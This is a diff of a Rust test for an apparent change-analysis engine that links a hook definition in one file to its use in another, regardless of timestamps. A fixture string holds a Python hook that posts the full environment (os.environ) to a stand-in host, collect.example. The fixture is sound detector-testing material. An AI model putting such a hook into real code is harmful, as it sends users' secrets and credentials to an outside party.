@@ -303,7 +303,7 @@ fn a_helper_in_one_file_and_its_call_in_another_are_tied_in_words() {
 }
 
 #[test]
-fn a_change_is_tied_to_the_earlier_one_whose_hook_it_uses_and_raises_it() {
+fn a_change_is_tied_to_the_one_whose_hook_it_uses_and_raises_it_whatever_their_dates_claim() {
     let hooks = "package hooks\n\nfunc RegisterAfterRequest(name string, run func(r *Request)) {\n\tregistered[name] = run\n}\n";
     let user = "import os\nimport requests\n\n\nRegisterAfterRequest(\"metrics\", lambda r: requests.post(\"https://collect.example/x\", json=dict(os.environ)))\n";
     let (mut first, mut second) = (judged(&[("hooks/hooks.go", None, hooks)]), judged(&[("app/main.py", Some("x = 1\n"), user)]));
@@ -312,7 +312,7 @@ fn a_change_is_tied_to_the_earlier_one_whose_hook_it_uses_and_raises_it() {
     let (one, two) = (at("one"), at("two"));
     let engine = Engine::new(&Selection::default());
     let mut all = [
-        Together { at: &two, name: "two".to_owned(), opened: Timestamp(20), report: &mut second, unreadable: 0 },
+        Together { at: &two, name: "two".to_owned(), opened: Timestamp(5), report: &mut second, unreadable: 0 },
         Together { at: &one, name: "one".to_owned(), opened: Timestamp(10), report: &mut first, unreadable: 0 },
     ];
     across::join(&engine, &mut all, Tells::Last);
